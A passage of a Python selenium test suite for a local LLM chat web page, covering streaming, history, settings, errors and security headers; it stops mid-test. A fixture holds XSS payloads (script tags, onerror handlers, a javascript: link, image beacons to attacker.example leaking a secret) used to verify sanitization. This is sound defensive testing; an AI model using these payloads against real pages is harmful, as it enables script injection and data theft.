"""The web chat page in a real browser: Debian's chromium + chromium-driver, driven by selenium,
against `r1 serve` with the tiny random model. One browser serves the whole module (each test
opens the page afresh with cleared storage); phone width is Chrome's device emulation (390 CSS px,
pixel ratio 2), not a narrow window. Screenshots go to build/ui-screenshots/ (docs/ui/ holds the
copies the README shows).

The random model never writes </think> by itself, so the tests set a thinking budget of 4 tokens:
the server then closes the thinking and the rest of the answer is content.
"""
import json
import re
import shutil
import signal
import time

import pytest

from conftest import ROOT, Server

CHROMIUM = shutil.which("chromium")
DRIVER = shutil.which("chromedriver")
SHOTS = ROOT / "build" / "ui-screenshots"
SETTINGS = {"temperature": 0.6, "top_p": 0.95, "max_tokens": 24, "repetition_penalty": 1.1,
            "seed": 1, "max_reasoning_tokens": 4, "system_prompt": ""}
DESKTOP = {"width": 1280, "height": 860}
PHONE = {"width": 390, "height": 844, "deviceScaleFactor": 2, "mobile": True}


def require_browser():
    if not CHROMIUM or not DRIVER:
        pytest.fail("chromium and chromium-driver are needed for the web UI tests: `make deps` "
                    "installs them (apt-get install chromium chromium-driver)")


@pytest.fixture(scope="module")
def ui_server(tiny_model, tmp_path_factory):
    s = Server(tiny_model, ["--parallel", "4", "--ctx-size", "512", "--allowed-host", "chat.example"],
               tmp_path_factory.mktemp("ui"))
    yield s
    s.stop()


def make_driver():
    require_browser()
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                f"--window-size={DESKTOP['width']},{DESKTOP['height']}", "--lang=en-US"]:
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    return webdriver.Chrome(service=Service(DRIVER), options=options)


@pytest.fixture(scope="module")
def browser():
    d = make_driver()
    yield d
    d.quit()


def emulate(d, scheme="light", device=None):
    """Colour scheme and viewport through the DevTools protocol (device None: the real window)."""
    d.execute_cdp_cmd("Emulation.setEmulatedMedia",
                      {"features": [{"name": "prefers-color-scheme", "value": scheme}]})
    if device:
        d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", device)
        d.execute_cdp_cmd("Emulation.setTouchEmulationEnabled", {"enabled": device["mobile"]})
    else:
        d.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        d.execute_cdp_cmd("Emulation.setTouchEmulationEnabled", {"enabled": False})


def wait(predicate, timeout=30, what="condition"):
    deadline = time.time() + timeout
    last = None
    while time.time() < deadline:
        try:
            last = predicate()
            if last:
                return last
        except Exception as e:  # element not there yet
            last = e
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what} (last: {last!r})")


def open_page(d, server, settings=SETTINGS, path="/"):
    from selenium.common.exceptions import NoAlertPresentException
    try:  # a dialog a failed test left open would block every later one
        d.switch_to.alert.dismiss()
    except NoAlertPresentException:
        pass
    d.get(f"http://127.0.0.1:{server.port}/ui/favicon.svg")  # same origin, to seed storage
    d.execute_script("localStorage.clear(); sessionStorage.clear();"
                     "localStorage.setItem('r1.settings', arguments[0]);", json.dumps(settings))
    d.get_log("browser")  # drop what earlier pages logged
    d.get(f"http://127.0.0.1:{server.port}{path}")
    wait(lambda: d.execute_script("return document.querySelector('#messages') !== null"),
         what="the page")


def by(d, css):
    return d.find_element("css selector", css)


def all_of(d, css):
    return d.find_elements("css selector", css)


def send(d, text):
    from selenium.webdriver.common.keys import Keys
    box = by(d, "#input")
    box.clear()
    box.send_keys(text)
    box.send_keys(Keys.ENTER)


def answered(d, count):
    """Waits until `count` assistant messages exist and the last one finished."""
    return wait(lambda: len(all_of(d, ".message.assistant")) == count
                and by(d, "#stop").get_attribute("hidden") is not None
                and all_of(d, ".message.assistant")[-1], what="the answer")


def banner_text(d):
    return by(d, "#banner-text").text if by(d, "#banner").is_displayed() else ""


def banner_saying(d, *parts):
    """Waits for the banner to show all `parts` (it follows the answer once saving is done)."""
    return wait(lambda: all(p in banner_text(d) for p in parts) and banner_text(d),
                what=f"a banner saying {parts}")


def current_id(d):
    wait(lambda: "#c=" in d.current_url, what="the conversation id in the URL")
    return d.current_url.split("#c=")[1]


def severe_console_errors(d):
    # Chromium reports the CSP's refusal of an inline handler already when DOMPurify parses hostile
    # HTML into its inert document: expected, and nothing runs. Any other error counts.
    return [e for e in d.get_log("browser") if e["level"] == "SEVERE"
            and "favicon" not in e["message"] and "inline event handler" not in e["message"]]


def stored_messages(server, cid, count):
    """The conversation's saved messages once there are `count` (the page saves an answer just
    after showing it finished)."""
    def get():
        status, c = server.json("GET", f"/api/conversations/{cid}")
        assert status == 200, c
        return len(c["messages"]) == count and c["messages"]
    return wait(get, timeout=10, what=f"{count} saved messages")


def metric(server, name):
    status, _, payload = server.request("GET", "/metrics")
    assert status == 200
    m = re.search(rf"^r1_{name}(?:{{[^}}]*}})? (\S+)$", payload.decode(), re.M)
    assert m, f"r1_{name} not in /metrics"
    return float(m.group(1))


def test_page_headers(ui_server):
    status, headers, body = ui_server.request("GET", "/")
    assert status == 200
    assert headers["content-type"] == "text/html; charset=utf-8"
    csp = headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp and "img-src 'self' data:" in csp
    assert "connect-src 'self'" in csp
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    # No inline script or handler: every <script> has a src, no on...= attribute.
    assert not re.search(rb"<script(?![^>]*\bsrc=)", body)
    assert not re.search(rb"\son[a-z]+\s*=", body)
    status, h, _ = ui_server.request("GET", "/vendor/katex/fonts/KaTeX_Main-Regular.woff2")
    assert status == 200 and h["content-type"] == "font/woff2"
    status, h, _ = ui_server.request("GET", "/ui/app.js")
    assert status == 200 and h["content-type"] == "text/javascript; charset=utf-8"
    status, _, _ = ui_server.request("GET", "/ui/app.js", headers={"If-None-Match": h["etag"]})
    assert status == 304
    status, _, _ = ui_server.request("GET", "/ui/../CMakeLists.txt")
    assert status in (400, 404)
    for path in ("/api/conversations", "/v1/models", "/no/such/page"):
        status, h, _ = ui_server.request("GET", path)
        assert h["x-content-type-options"] == "nosniff", path
    status, h, _ = ui_server.request("GET", "/", headers={"Host": "rebind.example"})
    assert status == 403 and h["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/", "/v1/models", "/health", "/ui/app.js",
                                  "/api/conversations"])
def test_foreign_host_is_refused(ui_server, path):
    status, _, body = ui_server.request("GET", path, headers={"Host": f"rebind.example:{ui_server.port}"})
    assert status == 403
    assert b"--allowed-host rebind.example" in body
    for allowed in (f"localhost:{ui_server.port}", f"chat.example:{ui_server.port}"):
        status, _, _ = ui_server.request("GET", path, headers={"Host": allowed})
        assert status == 200, allowed


def test_ui_dir_serves_the_page_from_disk(tiny_model, tmp_path):
    ui = tmp_path / "ui"
    shutil.copytree(ROOT / "ui", ui)
    (ui / "index.html").write_text((ui / "index.html").read_text().replace("<title>r1 chat", "<title>edited"))
    s = Server(tiny_model, ["--ctx-size", "256", "--ui-dir", str(ui)], tmp_path)
    try:
        status, headers, body = s.request("GET", "/")
        assert status == 200 and b"<title>edited" in body
        assert "script-src 'self'" in headers["content-security-policy"]
        assert s.request("GET", "/vendor/marked/marked.min.js")[0] == 200  # still embedded
        status, _, body = s.request("GET", "/ui/missing.js")
        assert status == 404 and str(ui).encode() in body
    finally:
        s.stop()


def test_send_streams_thinking_and_answer(ui_server, browser):
    d = browser
    open_page(d, ui_server, {**SETTINGS, "max_tokens": 200})
    # While streaming: the thinking panel fills, and the Stop button shows instead of Send. The
    # page itself notes the buttons when the first thinking text appears (a fast machine can
    # finish the whole answer between two polls from here).
    d.execute_script("""
        window.__buttonsWhileThinking = null;
        const shown = el => !!el && el.getClientRects().length > 0;
        new MutationObserver(() => {
          const t = document.querySelector('.message.assistant .thinking .plain');
          if (window.__buttonsWhileThinking === null && t && t.textContent.trim())
            window.__buttonsWhileThinking = {stop: shown(document.querySelector('#stop')),
                                             send: shown(document.querySelector('#send'))};
        }).observe(document.body, {subtree: true, childList: true, characterData: true});""")
    send(d, "What is 2+2?")
    wait(lambda: d.execute_script("return window.__buttonsWhileThinking"), what="thinking text")
    assert d.execute_script("return window.__buttonsWhileThinking") == {"stop": True, "send": False}
    answer = answered(d, 1)
    assert by(d, ".message.user .plain").text == "What is 2+2?"
    thinking = answer.find_element("css selector", ".thinking")
    assert thinking.get_attribute("open") is None, "the thinking panel folds once the answer starts"
    assert re.fullmatch(r"Thought for \d+ s", thinking.find_element("css selector", "summary").text)
    assert answer.find_element("css selector", ".answer").text.strip() != ""
    stats = answer.find_element("css selector", ".stats").text
    assert re.fullmatch(r"\d+ tokens · [\d.]+ tok/s · TTFT [\d.]+ s", stats), stats
    # The reader's choice to open the panel sticks.
    thinking.find_element("css selector", "summary").click()
    assert thinking.get_attribute("open") is not None
    assert not severe_console_errors(d), severe_console_errors(d)
    # Offline-ready: everything the page loaded came from r1 serve itself.
    assert d.execute_script("return performance.getEntriesByType('resource')"
                            ".map(e => e.name).filter(u => new URL(u).host !== location.host)") == []


def test_stop_cancels_the_answer_server_side(tiny_model, tmp_path, browser):
    # Its own server with room for an answer that is still streaming when Stop is clicked (400
    # tokens of this model can finish in ~2 s).
    ui_server = Server(tiny_model, ["--ctx-size", "4096"], tmp_path)
    try:
        stop_mid_answer(browser, ui_server)
    finally:
        ui_server.stop()


def stop_mid_answer(d, ui_server):
    open_page(d, ui_server, {**SETTINGS, "max_tokens": 4000})
    send(d, "Tell me a long story")
    wait(lambda: by(d, ".message.assistant .answer").text.strip(), what="answer text")
    by(d, "#stop").click()
    answer = answered(d, 1)
    assert "stopped" in answer.find_element("css selector", ".stats").text
    assert "state-stopped" in answer.get_attribute("class")
    # The sequence is freed at once, long before its 4000 tokens are done.
    wait(lambda: metric(ui_server, "active_sequences") == 0, timeout=3,
         what="the server to cancel the sequence")
    messages = stored_messages(ui_server, current_id(d), 2)
    assert [m["state"] for m in messages] == ["complete", "stopped"]


def test_regenerate_with_a_seed_and_edit(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    send(d, "first question")
    first = answered(d, 1).find_element("css selector", ".answer").text
    by(d, ".message.assistant .regenerate").click()  # the old answer goes at once
    again = answered(d, 1)
    assert len(all_of(d, ".message")) == 2
    assert again.find_element("css selector", ".answer").text == first, "the same seed, the same answer"
    send(d, "second question")
    answered(d, 2)
    # Edit the first question: everything after it is replaced, in the page and in the store.
    all_of(d, ".message.user .edit")[0].click()
    box = by(d, ".edit-box")
    box.clear()
    box.send_keys("edited question")
    by(d, ".edit-send").click()
    answered(d, 1)
    users = [e.text for e in all_of(d, ".message.user .plain")]
    assert users == ["edited question"]
    cid = current_id(d)
    wait(lambda: stored_messages(ui_server, cid, 2)[0]["content"] == "edited question",
         what="the edit saved")
    messages = stored_messages(ui_server, cid, 2)
    assert [(m["role"], m["seq"]) for m in messages] == [("user", 1), ("assistant", 2)]


def test_enter_sends_shift_enter_adds_a_line_and_new_chat(ui_server, browser):
    from selenium.webdriver.common.keys import Keys
    d = browser
    open_page(d, ui_server)
    box = by(d, "#input")
    box.send_keys("line one")
    box.send_keys(Keys.SHIFT, Keys.ENTER)
    box.send_keys("line two")
    assert box.get_attribute("value") == "line one\nline two"
    assert not all_of(d, ".message.user")
    box.send_keys(Keys.ENTER)
    answered(d, 1)
    assert by(d, ".message.user .plain").text == "line one\nline two"
    assert box.get_attribute("value") == ""
    cid = current_id(d)
    by(d, "#new-chat").click()
    wait(lambda: by(d, "#title").text == "New chat" and not all_of(d, ".message"))
    assert "#c=" not in d.current_url
    wait(lambda: any(e.get_attribute("data-id") == cid for e in all_of(d, ".conversation")),
         what="the previous conversation in the sidebar")


def test_settings_persist_and_reach_the_server(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    by(d, "#open-settings").click()
    field = by(d, "#settings-form input[name=temperature]")
    field.clear()
    field.send_keys("5")
    by(d, "#settings-save").click()
    assert "Temperature" in by(d, "#settings-error").text  # out of range: refused, named
    field.clear()
    field.send_keys("0.3")
    tokens = by(d, "#settings-form input[name=max_tokens]")
    tokens.clear()
    tokens.send_keys("3")
    by(d, "#settings-form textarea[name=system_prompt]").send_keys("Be brief.")
    by(d, "#settings-save").click()
    d.refresh()
    by(d, "#open-settings").click()
    assert by(d, "#settings-form input[name=temperature]").get_attribute("value") == "0.3"
    assert "without a system prompt" in by(d, "#settings .hint").text
    by(d, "#settings-reset").click()  # fills in the defaults; Cancel keeps what was saved
    assert by(d, "#settings-form input[name=temperature]").get_attribute("value") == "0.6"
    by(d, "#settings-cancel").click()
    # What the page asks /v1/chat/completions for (fetch is watched, not changed).
    d.execute_script("window.__sent = []; const f = window.fetch;"
                     "window.fetch = (url, o) => { __sent.push([String(url), o && o.body]); return f(url, o); };")
    send(d, "how many tokens?")
    stats = answered(d, 1).find_element("css selector", ".stats").text
    assert int(stats.split(" tokens")[0]) <= 3, stats
    chat = [json.loads(b) for url, b in d.execute_script("return window.__sent")
            if url == "/v1/chat/completions"]
    assert len(chat) == 1
    assert chat[0]["messages"] == [{"role": "system", "content": "Be brief."},
                                   {"role": "user", "content": "how many tokens?"}]
    assert {k: chat[0][k] for k in ("temperature", "top_p", "max_tokens", "repetition_penalty",
                                    "seed", "max_reasoning_tokens", "stream")} == {
        "temperature": 0.3, "top_p": 0.95, "max_tokens": 3, "repetition_penalty": 1.1, "seed": 1,
        "max_reasoning_tokens": 4, "stream": True}
    status, c = ui_server.json("GET", f"/api/conversations/{current_id(d)}")
    assert c["settings"] == {"temperature": 0.3, "top_p": 0.95, "max_tokens": 3,
                             "repetition_penalty": 1.1, "seed": 1, "max_reasoning_tokens": 4}


def test_settings_defaults_are_the_recommended_ones(ui_server, browser):
    d = browser
    open_page(d, ui_server, settings={})
    by(d, "#open-settings").click()
    values = {name: by(d, f"#settings-form [name={name}]").get_attribute("value")
              for name in ("temperature", "top_p", "max_tokens", "repetition_penalty", "seed",
                           "max_reasoning_tokens", "system_prompt")}
    assert values == {"temperature": "0.6", "top_p": "0.95", "max_tokens": "2048",
                      "repetition_penalty": "1.1", "seed": "", "max_reasoning_tokens": "",
                      "system_prompt": ""}
    by(d, "#settings-cancel").click()


HOSTILE = ('Hi <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2">\n\n'
           '[click](javascript:window.__pwned=3) ![leak](http://attacker.example/p.png?q=secret)\n\n'
           '<a href="https://example.com" onclick="window.__pwned=4">ok link</a>\n\n'
           '<img src="https://attacker.example/i.png"> <svg><image href="https://attacker.example/s.png"/></svg>\n\n'
           'Math: \\( x^2 \\) and $$\\boxed{55}$$ and \\[ y = 1 \\] so the answer is \\boxed{42}.\n\n'
           '```python\nprint("hi")\n```\n')


def check_inert(d, root_css):
    root = by(d, root_css)
    html = root.get_attribute("innerHTML")
    assert "<script" not in html and "onerror" not in html and "onclick" not in html
    assert "javascript:" not in html and "attacker.example" not in html
    for a in root.find_elements("css selector", "a[href]"):
        assert a.get_attribute("href").startswith("https://")
        assert "noopener" in a.get_attribute("rel") and a.get_attribute("target") == "_blank"
    for a in root.find_elements("css selector", "a"):
        if a.text == "click":
            a.click()
    assert d.execute_script("return window.__pwned === undefined")
    # No request left the page for another host (the CSP would block one; none is even tried).
    foreign = d.execute_script("return performance.getEntriesByType('resource')"
                               ".map(e => e.name).filter(u => new URL(u).host !== location.host)")
    assert foreign == []
    # \( \), $$ $$, \[ \] and a bare \boxed{} are all typeset.
    assert len(root.find_elements("css selector", ".katex")) == 4, html
    assert root.find_elements("css selector", ".katex-display")
    assert "55" in root.text and "42" in root.text
    assert root.find_elements("css selector", "pre .copy"), "code blocks get a copy button"
    assert root.find_elements("css selector", "pre code .hljs-built_in, pre code .hljs-string")


def test_hostile_markdown_renders_inert(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    d.execute_async_script(
        "const done = arguments[1];"
        "import('/ui/render.js').then(m => { const el = m.renderMarkdown(arguments[0]);"
        "el.id = 'probe'; document.body.append(el); done(); });", HOSTILE)
    check_inert(d, "#probe")


def test_math_is_laid_out_under_the_csp(ui_server, browser):
    """KaTeX positions everything with inline styles; the CSP refuses style attributes, so they
    must arrive through the CSSOM: a fraction's numerator sits above its denominator."""
    d = browser
    open_page(d, ui_server)
    result = d.execute_async_script("""
        const done = arguments[0];
        const refused = [];
        document.addEventListener('securitypolicyviolation', (e) => refused.push(e.violatedDirective));
        import('/ui/render.js').then((m) => {
          const el = m.renderMarkdown('Half: \\\\( \\\\frac{1}{2} \\\\) and \\\\boxed{55}');
          document.body.append(el);
          const box = (css) => el.querySelector(css).getBoundingClientRect();
          setTimeout(() => done({
            refused,
            numerator: box('.mfrac .vlist > span:last-child').bottom,
            denominator: box('.mfrac .vlist > span:first-child').top,
            boxed: getComputedStyle(el.querySelector('.fbox')).borderTopStyle,
          }), 100);
        });""")
    assert result["refused"] == [], result
    assert result["numerator"] <= result["denominator"], result
    assert result["boxed"] == "solid", result


def create_conversation(server, title, messages):
    status, c = server.json("POST", "/api/conversations", {"title": title})
    assert status in (200, 201), f"history API missing or broken ({status}): {c}"
    for m in messages:
        status, body = server.json("POST", f"/api/conversations/{c['id']}/messages", m)
        assert status in (200, 201), body
    return c["id"]


def test_thinking_summary_says_how_long_even_when_it_was_instant(ui_server, browser):
    # The first answer text can arrive in the same read as the last thinking text: 0 s of
    # thinking is still a time ("Thought for 1 s" as rounded up), not "Thinking" forever.
    d = browser
    turns = [(0, "Thought for 1 s"), (0.2, "Thought for 1 s"), (7.4, "Thought for 7 s"), (None, "Thinking")]
    messages = []
    for seconds, _ in turns:
        messages.append({"role": "user", "content": "q", "state": "complete"})
        messages.append({"role": "assistant", "content": "a", "reasoning_content": "r", "state": "complete",
                         **({"stats": {"tokens": 3, "thought_s": seconds}} if seconds is not None else {})})
    cid = create_conversation(ui_server, "thinking times", messages)
    open_page(d, ui_server, path=f"/#c={cid}")
    wait(lambda: len(all_of(d, ".message.assistant .thinking summary")) == len(turns), what="the stored answers")
    assert [e.text for e in all_of(d, ".message.assistant .thinking summary")] == [want for _, want in turns]


def test_stored_hostile_answer_renders_inert_and_code_copies(ui_server, browser):
    d = browser
    cid = create_conversation(ui_server, "hostile", [
        {"role": "user", "content": "<img src=x onerror=\"window.__pwned=9\">", "state": "complete"},
        {"role": "assistant", "content": HOSTILE, "reasoning_content": "<script>x</script>",
         "state": "complete"}])
    open_page(d, ui_server, path=f"/#c={cid}")
    wait(lambda: by(d, ".message.assistant .answer").text, what="the stored answer")
    check_inert(d, ".message.assistant .answer")
    assert by(d, ".message.user .plain").text == '<img src=x onerror="window.__pwned=9">'
    assert by(d, ".message.assistant .thinking .plain").get_attribute("textContent") == "<script>x</script>"
    assert not severe_console_errors(d), severe_console_errors(d)  # e.g. a CSP refusal of styles
    origin = f"http://127.0.0.1:{ui_server.port}"
    d.execute_cdp_cmd("Browser.grantPermissions", {
        "origin": origin, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]})
    by(d, ".message.assistant pre .copy").click()
    wait(lambda: by(d, ".message.assistant pre .copy").text == "Copied", what="Copied")
    read = "navigator.clipboard.readText().then(arguments[0], e => arguments[0]('ERR ' + e))"
    assert d.execute_async_script(read) == 'print("hi")\n'
    # Opened from another machine (http://<host>:7860, not a secure context) there is no
    # Clipboard API: the button copies the selection instead.
    d.execute_async_script(
        "navigator.clipboard.writeText('something else').then(arguments[0]);"
        "window.__read = navigator.clipboard.readText.bind(navigator.clipboard);")
    d.execute_script("Object.defineProperty(Navigator.prototype, 'clipboard', { get: () => undefined })")
    wait(lambda: by(d, ".message.assistant pre .copy").text == "Copy", what="the button reset")
    by(d, ".message.assistant pre .copy").click()
    wait(lambda: by(d, ".message.assistant pre .copy").text == "Copied", what="Copied without the API")
    assert d.execute_async_script(read.replace("navigator.clipboard.readText()", "window.__read()")) == 'print("hi")\n'


def downloaded(folder, suffix):
    return wait(lambda: [p for p in folder.iterdir() if p.name.endswith(suffix)],
                what=f"a downloaded {suffix} file")[0]


def test_history_reload_rename_export_delete(ui_server, browser, tmp_path):
    d = browser
    open_page(d, ui_server)
    send(d, "Remember this conversation please")
    answered(d, 1)
    cid = current_id(d)
    wait(lambda: any("Remember this conversation" in e.text for e in all_of(d, ".conversation")),
         what="the title (the first message) in the sidebar")
    live_stats = by(d, ".message.assistant .stats").text
    stored_messages(ui_server, cid, 2)
    d.refresh()
    wait(lambda: by(d, ".message.user .plain").text == "Remember this conversation please",
         what="the conversation restored after reload")
    assert all_of(d, ".message.assistant .answer")
    # The numbers under the answer and "thought for" come back from the store too.
    assert by(d, ".message.assistant .stats").text == live_stats
    assert re.fullmatch(r"Thought for \d+ s", by(d, ".message.assistant .thinking summary").text)
    # Rename (prompt dialog).
    by(d, "#rename").click()
    alert = d.switch_to.alert
    alert.send_keys("Renamed chat")
    alert.accept()
    wait(lambda: by(d, "#title").text == "Renamed chat", what="the new title")
    wait(lambda: any(e.text == "Renamed chat" for e in all_of(d, ".conversation")))
    assert ui_server.json("GET", f"/api/conversations/{cid}")[1]["title"] == "Renamed chat"
    # Export buttons: the files the browser downloads are the server's exports.
    d.execute_cdp_cmd("Browser.setDownloadBehavior",
                      {"behavior": "allow", "downloadPath": str(tmp_path)})
    by(d, "#export-md").click()
    md = downloaded(tmp_path, ".md")
    by(d, "#export-json").click()
    js = downloaded(tmp_path, ".json")
    assert md.name == "Renamed_chat.md" and js.name == "Renamed_chat.json"
    assert md.read_bytes() == ui_server.request("GET", f"/api/conversations/{cid}/export?format=markdown")[2]
    exported = json.loads(js.read_text())
    assert exported["format"] == "r1-conversation" and exported["title"] == "Renamed chat"
    assert [m["role"] for m in exported["messages"]] == ["user", "assistant"]
    # Search finds it, delete removes it.
    by(d, "#search").send_keys("Renamed")
    wait(lambda: [e.text for e in all_of(d, ".conversation")] == ["Renamed chat"])
    by(d, "#search").clear()
    by(d, "#search").send_keys("no such title zzz")
    wait(lambda: all_of(d, ".conversation") == [], what="an empty search result")
    by(d, "#delete").click()
    d.switch_to.alert.accept()
    wait(lambda: by(d, "#title").text == "New chat")
    status, _ = ui_server.json("GET", f"/api/conversations/{cid}")
    assert status == 404


IMPORTED = {
    "format": "r1-conversation", "version": 1, "title": "Imported: sum of 1 to 10",
    "settings": {"temperature": 0.6},
    "messages": [
        {"role": "user", "content": "What is the sum of the integers from 1 to 10?"},
        {"role": "assistant", "reasoning_content": "n(n+1)/2 with n = 10 gives 55.",
         "content": "By Gauss's formula \\( \\frac{n(n+1)}{2} \\) it is \\boxed{55}.",
         "state": "complete"}]}


def test_import_json_through_the_page(ui_server, browser, tmp_path):
    d = browser
    open_page(d, ui_server)
    good = tmp_path / "good.json"
    good.write_text(json.dumps(IMPORTED))
    by(d, "#import-file").send_keys(str(good))
    wait(lambda: by(d, "#title").text == IMPORTED["title"], what="the imported conversation")
    wait(lambda: any(e.text == IMPORTED["title"] for e in all_of(d, ".conversation")),
         what="the imported conversation in the sidebar")  # the list is redrawn meanwhile
    assert by(d, ".message.user .plain").text == IMPORTED["messages"][0]["content"]
    answer = by(d, ".message.assistant .answer")
    assert len(answer.find_elements("css selector", ".katex")) == 2 and "55" in answer.text
    # Stored server-side under a new id, messages as in the file.
    cid = current_id(d)
    status, c = ui_server.json("GET", f"/api/conversations/{cid}")
    assert status == 200 and c["title"] == IMPORTED["title"]
    assert [(m["role"], m["content"], m["reasoning_content"]) for m in c["messages"]] == [
        (m["role"], m["content"], m.get("reasoning_content", "")) for m in IMPORTED["messages"]]
    # A file that is no r1 export is refused with the server's reason.
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"messages": []}))
    by(d, "#import-file").send_keys(str(bad))
    banner_saying(d, "Import failed", "r1-conversation")


def fill_history(server):
    """Creates conversations until the store answers 507 (its --history-max-bytes is reached)."""
    for count in range(200):
        status, body = server.json("POST", "/api/conversations", {"title": f"filler {count}"})
        if status == 507:
            return count
        assert status == 201, body
    raise AssertionError("--history-max-bytes was never reached")


@pytest.mark.parametrize("case", ["disk-full", "unusable-data-dir"])
def test_not_saved_while_chatting_keeps_working(tiny_model, tmp_path, browser, ui_server, case):
    d = browser
    if case == "disk-full":
        s = Server(tiny_model, ["--ctx-size", "512", "--history-max-bytes", "32768"], tmp_path)
    else:  # a regular file where the data directory should be: fails for root too, unlike chmod
        (tmp_path / "blocker").write_text("not a directory")
        s = Server(tiny_model, ["--ctx-size", "512", "--data-dir", str(tmp_path / "blocker" / "r1")],
                   tmp_path)
    try:
        stored = fill_history(s) if case == "disk-full" else None
        open_page(d, s)
        if case == "unusable-data-dir":  # known from the first request, before anything is typed
            wait(lambda: "History is unavailable" in banner_text(d), what="the unavailable banner")
        send(d, "Will this be saved?")
        answer = answered(d, 1)
        assert "state-complete" in answer.get_attribute("class")
        assert answer.find_element("css selector", ".answer").text.strip()
        assert by(d, "#not-saved").is_displayed(), "the Not saved badge"
        assert by(d, "#title").text == "Will this be saved?"  # named by its first message anyway
        if case == "disk-full":
            banner_saying(d, "Not saved", "history size limit is reached")
            assert s.json("GET", "/api/conversations")[1]["total"] == stored
        else:
            banner_saying(d, "History is unavailable", "blocker")
        # The conversation goes on in the tab; the banner can be dismissed, the badge stays.
        send(d, "And this one?")
        answered(d, 2)
        by(d, "#banner-close").click()
        assert not by(d, "#banner").is_displayed() and by(d, "#not-saved").is_displayed()
        # Kept in the tab, it can still leave as JSON, and a working store imports that file.
        downloads = tmp_path / "downloads"
        downloads.mkdir()
        d.execute_cdp_cmd("Browser.setDownloadBehavior",
                          {"behavior": "allow", "downloadPath": str(downloads)})
        assert by(d, "#export-md").get_attribute("disabled") is not None
        by(d, "#export-json").click()
        exported = json.loads(downloaded(downloads, ".json").read_text())
        assert [(m["role"], m["state"]) for m in exported["messages"]] == [
            ("user", "complete"), ("assistant", "complete")] * 2
        assert exported["messages"][2]["content"] == "And this one?"
        status, imported = ui_server.json("POST", "/api/conversations/import", exported)
        assert status == 201, imported
        assert imported["title"] == "Will this be saved?" and len(imported["messages"]) == 4
    finally:
        s.stop()


def letters(text):
    """The letters and digits of a rendered answer: what streaming cannot change. The answer is
    Markdown rendered again as it grows, so markup the random model emits (a '***', a list marker)
    can render differently once its end arrives, and the shown text of a prefix need not be a
    prefix of the shown text."""
    return re.sub(r"[\W_]+", "", text)


def test_dropped_connection_keeps_the_partial_answer(tiny_model, tmp_path, browser):
    d = browser
    s = Server(tiny_model, ["--ctx-size", "4096"], tmp_path)  # room for an answer that outlasts
    try:                                                     # the kill (see the next test)
        open_page(d, s, {**SETTINGS, "max_tokens": 4000})
        send(d, "A long answer, please")
        partial = wait(lambda: by(d, ".message.assistant .answer").text.strip(), what="answer text")
        s.proc.send_signal(signal.SIGKILL)
        s.proc.wait(timeout=10)
        answer = answered(d, 1)
        assert "state-interrupted" in answer.get_attribute("class")
        kept = answer.find_element("css selector", ".answer").text
        assert letters(kept).startswith(letters(partial)), (partial, kept)
        assert "interrupted" in answer.find_element("css selector", ".stats").text
        text = banner_saying(d, "The partial answer is kept.", "Regenerate tries again")
        assert re.search(r"connection (dropped|closed)", text), text
        assert by(d, "#not-saved").is_displayed(), "the dead server could not save it either"
    finally:
        s.stop()


def test_server_error_shows_a_banner(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    # A prompt longer than --ctx-size 512: the server refuses it with 400 before streaming.
    d.execute_script("document.getElementById('input').value = arguments[0]", "word " * 1500)
    from selenium.webdriver.common.keys import Keys
    by(d, "#input").send_keys(Keys.END, Keys.ENTER)
    answer = answered(d, 1)
    assert "state-error" in answer.get_attribute("class")
    text = banner_saying(d, "Nothing was answered.")
    assert "context" in text.lower(), text
    assert "error" in answer.find_element("css selector", ".stats").text
    messages = stored_messages(ui_server, current_id(d), 2)
    assert [m["state"] for m in messages] == ["complete", "error"]


def test_leaving_mid_answer_saves_it_as_interrupted(tiny_model, tmp_path, browser):
    d = browser
    # Its own server with room for a long answer: 400 tokens took ~10 s of this model on the
    # first machines and ~2 s on later ones, short enough to finish before the page is left.
    ui_server = Server(tiny_model, ["--ctx-size", "4096"], tmp_path)
    try:
        leave_mid_answer(d, ui_server)
    finally:
        ui_server.stop()


def leave_mid_answer(d, ui_server):
    open_page(d, ui_server, {**SETTINGS, "max_tokens": 4000})
    send(d, "Start answering, I will leave")
    partial = wait(lambda: by(d, ".message.assistant .answer").text.strip(), what="answer text")
    cid = current_id(d)
    d.get(f"http://127.0.0.1:{ui_server.port}/ui/favicon.svg")  # leave the page mid-answer

    def saved():
        status, c = ui_server.json("GET", f"/api/conversations/{cid}")
        return len(c["messages"]) == 2 and c["messages"][1]

    m = wait(saved, timeout=10, what="the partial answer saved")
    assert m["state"] == "interrupted" and m["content"].strip()
    # Back on the page: the saved part is there, marked as cut off.
    open_page(d, ui_server, path=f"/#c={cid}")
    answer = wait(lambda: by(d, ".message.assistant"), what="the saved answer")
    assert "state-interrupted" in answer.get_attribute("class")
    kept = answer.find_element("css selector", ".answer").text
    assert letters(kept).startswith(letters(partial)), (partial, kept)
    assert "interrupted" in answer.find_element("css selector", ".stats").text
    # Cancelled at once, not left to run out its 4000 tokens.
    wait(lambda: metric(ui_server, "active_sequences") == 0, timeout=3,
         what="the server to cancel the abandoned answer")


def test_api_key_is_asked_once(tiny_model, tmp_path, browser):
    d = browser
    s = Server(tiny_model, ["--ctx-size", "512", "--api-key", "sk-ui-test"], tmp_path)
    try:
        open_page(d, s)
        # The page's first call (the conversation list under /api) meets the 401 and asks.
        wait(lambda: by(d, "#key-dialog").get_attribute("open") is not None, what="the key dialog")
        by(d, "#key-input").send_keys("sk-ui-test")
        by(d, "#key-ok").click()
